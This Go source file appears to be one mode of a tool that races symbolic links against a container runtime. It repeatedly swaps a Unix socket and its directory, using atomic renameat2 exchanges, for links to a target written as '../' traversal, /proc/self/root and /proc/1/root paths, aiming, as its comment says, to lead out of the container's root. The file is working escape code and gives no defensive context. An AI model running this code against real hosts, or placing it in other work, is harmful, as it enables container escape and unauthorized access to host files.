package main

import (
	"context"
	"errors"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"time"

	"golang.org/x/sys/unix"
)

// swapInterval is how long each appearance lasts.
const swapInterval = 2 * time.Millisecond

// links serves on its Unix socket and keeps exchanging it, and the directory
// that it lies in, for symbolic links to the target, written in every way that
// might lead out of the container's root.
func links(ctx context.Context, o options, l net.Listener) error {
	socket, ok := l.(*net.UnixListener)
	if !ok {
		return errors.New("mode links needs -listen unix:/path")
	}
	socket.SetUnlinkOnClose(false) // what is there at the end may be a link
	ctx, cancel := context.WithCancelCause(ctx)
	defer cancel(nil)
	done := make(chan struct{})
	go func() {
		defer close(done)
		if err := swap(ctx, socket.Addr().String(), o.target); err != nil {
			cancel(err)
		}
	}()
	err := serve(ctx, l, func(context.Context, []byte) (any, error) { return map[string]bool{"swaps": true}, nil })
	cancel(nil)
	<-done
	if cause := context.Cause(ctx); err == nil && !errors.Is(cause, context.Canceled) {
		err = cause
	}
	return err
}

// swap exchanges until ctx ends.
func swap(ctx context.Context, path, target string) error {
	dir := filepath.Dir(path)
	up := "../../../../../../../.."
	forms := []string{target, up + target, "/proc/self/root" + target, "/proc/1/root" + target, "/proc/1/cwd/" + up + target}
	tick := time.NewTicker(swapInterval)
	defer tick.Stop()
	for round := 0; ; round++ {
		form := forms[round%len(forms)]
		for _, swap := range []struct{ place, to string }{{path, form}, {dir, filepath.Dir(form)}} {
			link := swap.place + ".link"
			if err := os.Symlink(swap.to, link); err != nil {
				return err
			}
			for range 2 { // there and back
				if err := unix.Renameat2(unix.AT_FDCWD, link, unix.AT_FDCWD, swap.place, unix.RENAME_EXCHANGE); err != nil {
					return fmt.Errorf("exchange %s: %w", swap.place, err)
				}
				select {
				case <-ctx.Done():
					return nil
				case <-tick.C:
				}
			}
			if err := os.Remove(link); err != nil {
				return err
			}
		}
		if round == 0 {
			fmt.Println("swapping")
		}
	}
}
